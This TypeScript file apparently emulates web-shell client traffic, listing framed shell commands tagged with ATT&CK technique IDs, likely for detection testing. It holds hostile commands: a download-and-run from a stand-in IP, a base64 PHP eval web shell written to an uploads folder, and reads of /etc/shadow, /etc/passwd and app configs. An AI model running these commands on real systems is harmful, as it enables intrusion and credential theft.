import { sh } from './hand';
import type { Hand } from './hand';

/** What clients of one-line web shells send: each command in a frame that marks where its output begins and ends. */
const frame = (folder: string, command: string): string =>
  `cd "${folder}";${command};echo b2dfe0;pwd;echo 3d61fb`;
const marked = (command: string): string => `echo [S];${command} 2>&1;echo [E]`;

export const clientA: Hand = {
  name: 'client_a',
  commands: [
    sh('client-whoami', 'T1033', frame('{root}', 'whoami')),
    sh('client-list', 'T1083', frame('{root}', 'ls -l')),
    sh('client-uname', 'T1082', frame('{root}', 'uname -a')),
    sh('client-processes', 'T1057', frame('/tmp', 'ps aux')),
    sh('client-passwd', 'T1087.001', frame('/etc', 'cat passwd')),
    sh('client-config', 'T1552.001', frame('{app}', 'cat {config}')),
    sh('client-netstat', 'T1049', frame('/', 'netstat -an | grep ESTABLISHED')),
    sh(
      'client-fetch',
      'T1105',
      frame('/tmp', 'wget http://203.0.113.66/linux64 -O a;chmod 777 a;./a')
    ),
    sh('client-delete', 'T1070.004', frame('/tmp', 'rm -f a')),
    sh(
      'client-write',
      'T1505.003',
      frame('{uploads}', 'echo PD9waHAgQGV2YWwoJF9QT1NUWzFdKTs=|base64 -d > i.php')
    ),
    sh('client-interfaces', 'T1016', frame('/', '/sbin/ifconfig -a || ip addr')),
    sh('client-find', 'T1083', frame('{root}', 'find . -name "*.php" -mtime -7')),
    sh('marked-id', 'T1033', marked('id')),
    sh('marked-users', 'T1033', marked('w')),
    sh('marked-disk', 'T1082', marked('df -h')),
    sh('marked-shadow', 'T1003.008', marked('cat /etc/shadow')),
    sh('marked-sudo', 'T1033', marked('sudo -n -l')),
    sh('marked-ping', 'T1018', marked('ping -c 1 10.20.0.5')),
    sh('sh-wrapped', 'T1059.004', '/bin/sh -c "cd /;id;echo 9f1b2;pwd;echo 77ac1" 2>&1'),
    sh('client-redirect', 'T1059.004', "/bin/bash -c '{ id; } 2>&1'"),
  ],
};
